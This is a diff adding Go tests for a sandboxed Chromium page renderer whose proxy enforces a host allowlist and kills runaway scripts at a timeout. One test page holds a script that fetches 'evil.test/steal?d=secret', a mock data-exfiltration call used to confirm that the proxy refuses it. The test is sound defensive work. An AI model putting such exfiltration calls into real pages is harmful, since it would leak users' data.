@@ -1,0 +1,275 @@
+package render
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"os/user"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/istota/istota/sidecar/internal/netproxy"
+	"github.com/istota/istota/sidecar/internal/sandbox"
+	"github.com/istota/istota/sidecar/internal/sandbox/sandboxtest"
+)
+
+func TestMain(m *testing.M) {
+	code := m.Run()
+	sandboxtest.Cleanup()
+	os.Exit(code)
+}
+
+func testLogger(t testing.TB) *slog.Logger {
+	return slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelDebug}))
+}
+
+// fakeResolver maps the tests' host names to loopback; other names do not exist.
+type fakeResolver map[string][]netip.Addr
+
+func (r fakeResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
+	if a, ok := r[host]; ok {
+		return a, nil
+	}
+	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
+}
+
+var loopback = []netip.Addr{netip.MustParseAddr("127.0.0.1")}
+
+// origin is a loopback web server that counts the requests it gets.
+type origin struct {
+	*httptest.Server
+	port string
+	mu   sync.Mutex
+	got  []string
+}
+
+func newOrigin(t *testing.T, pages map[string]string) *origin {
+	t.Helper()
+	o := &origin{}
+	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		o.mu.Lock()
+		o.got = append(o.got, r.URL.RequestURI())
+		o.mu.Unlock()
+		body, ok := pages[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, body)
+	}))
+	t.Cleanup(o.Close)
+	_, o.port, _ = net.SplitHostPort(o.Listener.Addr().String())
+	return o
+}
+
+func (o *origin) requests() []string {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+	return append([]string(nil), o.got...)
+}
+
+// testUID is the uid the tests' sandboxes run as when the tests run as root: one no
+// account and no other test uses, so the processes left after a render can be counted
+// by it.
+func testUID(t *testing.T) uint32 {
+	for uid := 40000 + os.Getpid()%20000; ; uid++ {
+		if _, err := user.LookupId(strconv.Itoa(uid)); err != nil {
+			return uint32(uid)
+		}
+	}
+}
+
+// newRenderer builds a Renderer on a real sandbox runner (the test binary stands in for
+// the istota binary, the init is the real istota-init) with this network policy.
+func newRenderer(t *testing.T, allow []string, resolver fakeResolver, timeout time.Duration) (*Renderer, uint32) {
+	t.Helper()
+	if _, err := os.Stat(DefaultChromium); err != nil {
+		t.Fatalf("this test needs Debian's chromium (scripts/deps.sh): %v", err)
+	}
+	base := t.TempDir()
+	for _, d := range []string{filepath.Dir(base), base} {
+		if err := os.Chmod(d, 0o711); err != nil {
+			t.Fatal(err)
+		}
+	}
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	self := filepath.Join(base, "istota")
+	if err := os.Link(exe, self); err != nil {
+		t.Fatal(err)
+	}
+	cfg := sandbox.Config{SelfPath: self, InitPath: sandboxtest.Init(t, base), SocketDir: filepath.Join(base, "sockets"),
+		Limits: sandbox.Limits{Processes: 1024, OpenFiles: 4096}}
+	uid := uint32(os.Geteuid())
+	if uid == 0 {
+		uid = testUID(t)
+		cfg.AgentUID, cfg.AgentGID = uid, uid
+	}
+	runner, err := sandbox.New(cfg, testLogger(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { runner.Close() })
+	rules, err := netproxy.ParseRules(allow)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := New(Options{
+		Runner:  runner,
+		Proxy:   netproxy.Options{Allow: rules, AllowPrivate: allow, Resolver: resolver, Logger: testLogger(t)},
+		Timeout: timeout,
+		Logger:  testLogger(t),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r, uid
+}
+
+func hostPort(h, p string) string { return net.JoinHostPort(h, p) }
+
+// TestRenderRunsScripts: text a script writes is in the rendered document (a plain
+// fetch sees none of it), and every connection went through the proxy.
+func TestRenderRunsScripts(t *testing.T) {
+	site := newOrigin(t, map[string]string{
+		"/app": `<!DOCTYPE html><html><head><title>App</title><script src="/app.js"></script></head>
+<body><div id="root">Loading…</div>
+<script>setTimeout(function () { document.getElementById("root").innerHTML = "<h1>River trips</h1><p>Written by " + "script " + (40 + 2) + ".</p>"; }, 500);</script>
+</body></html>`,
+		"/app.js": `document.title = "Rendered app";`,
+	})
+	host := hostPort("site.test", site.port)
+	r, _ := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback}, 45*time.Second)
+	page, err := r.Render(context.Background(), Job{UserID: "alice", TaskID: 7, URL: "http://" + host + "/app", PageHosts: []string{"site.test"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	dom := string(page.DOM)
+	for _, want := range []string{"<h1>River trips</h1>", "Written by script 42.", "<title>Rendered app</title>"} {
+		if !strings.Contains(dom, want) {
+			t.Errorf("the document lacks %q:\n%s", want, dom)
+		}
+	}
+	if strings.Contains(dom, "Loading…") {
+		t.Errorf("the document still has the placeholder:\n%s", dom)
+	}
+	got := site.requests()
+	if len(got) < 2 || got[0] != "/app" {
+		t.Errorf("the site saw %q", got)
+	}
+	var urls []string
+	for _, d := range page.Requests {
+		if d.Outcome != netproxy.OutcomeAllowed || d.Target != host || d.Who.UserID != "alice" || d.Who.TaskID != 7 {
+			t.Errorf("decision %+v", d)
+		}
+		urls = append(urls, d.URL)
+	}
+	if len(urls) < 2 || urls[0] != "http://"+host+"/app" || urls[1] != "http://"+host+"/app.js" {
+		t.Errorf("the proxy saw %q", urls)
+	}
+}
+
+// TestRenderRefusesOtherHosts: a page's script and image that reach for a host outside
+// the allowlist, or for an allowed host on a private address without an allow_private
+// entry, never get there; both refusals are reported.
+func TestRenderRefusesOtherHosts(t *testing.T) {
+	evil := newOrigin(t, map[string]string{"/steal": "stolen"})
+	site := newOrigin(t, map[string]string{
+		"/page": `<html><body><p id="s">static text</p><img src="http://evil.test:` + evil.port + `/pix.png">
+<script>fetch("http://evil.test:` + evil.port + `/steal?d=secret").then(function(){document.getElementById("s").textContent="leaked";}, function(){document.getElementById("s").textContent="fetch refused";});
+fetch("http://127.0.0.1:` + evil.port + `/steal?d=direct").catch(function(){});</script></body></html>`,
+	})
+	host := hostPort("site.test", site.port)
+	r, _ := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback, "evil.test": loopback}, 45*time.Second)
+	page, err := r.Render(context.Background(), Job{UserID: "alice", TaskID: 8, URL: "http://" + host + "/page", PageHosts: []string{"site.test"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(page.DOM), "fetch refused") {
+		t.Errorf("the script's fetch was not refused:\n%s", page.DOM)
+	}
+	if got := evil.requests(); len(got) != 0 {
+		t.Errorf("the host outside the allowlist was reached: %q", got)
+	}
+	refused := map[string]string{}
+	for _, d := range page.Requests {
+		if d.Outcome == netproxy.OutcomeRefused {
+			refused[d.Target] = d.Reason
+		}
+	}
+	if refused[hostPort("evil.test", evil.port)] != "host_not_allowed" || refused[hostPort("127.0.0.1", evil.port)] != "host_not_allowed" {
+		t.Errorf("refusals %v in %+v", refused, page.Requests)
+	}
+}
+
+// TestRenderTimeout: a page whose script never ends is killed at the timeout with every
+// process of its sandbox.
+func TestRenderTimeout(t *testing.T) {
+	site := newOrigin(t, map[string]string{"/spin": `<html><body><p>spinning</p><script>for (;;) {}</script></body></html>`})
+	host := hostPort("site.test", site.port)
+	r, uid := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback}, 8*time.Second)
+	_, err := r.Render(context.Background(), Job{UserID: "alice", TaskID: 9, URL: "http://" + host + "/spin", PageHosts: []string{"site.test"}})
+	if !errors.Is(err, ErrTimeout) {
+		t.Fatalf("err = %v, want a timeout", err)
+	}
+	if os.Geteuid() != 0 {
+		return // the sandbox ran as our own uid, shared with this test: nothing to count
+	}
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		left := processesOf(uid)
+		if len(left) == 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("processes of the sandbox survived the timeout: %q", left)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+}
+
+// processesOf lists the command lines of the host's processes running as uid.
+func processesOf(uid uint32) []string {
+	entries, _ := os.ReadDir("/proc")
+	var out []string
+	for _, e := range entries {
+		if _, err := strconv.Atoi(e.Name()); err != nil {
+			continue
+		}
+		var st syscall.Stat_t
+		if syscall.Stat("/proc/"+e.Name(), &st) != nil || st.Uid != uid {
+			continue
+		}
+		b, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
+		out = append(out, strings.ReplaceAll(string(b), "\x00", " "))
+	}
+	return out
+}
+
+// TestCheck: the doctor's check renders its own page.
+func TestCheck(t *testing.T) {
+	r, _ := newRenderer(t, nil, nil, 45*time.Second)
+	if err := r.Check(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestNewRefuses(t *testing.T) {
+	if _, err := New(Options{}); err == nil || !strings.Contains(err.Error(), "runner") {
+		t.Errorf("no runner: %v", err)
+	}
+}
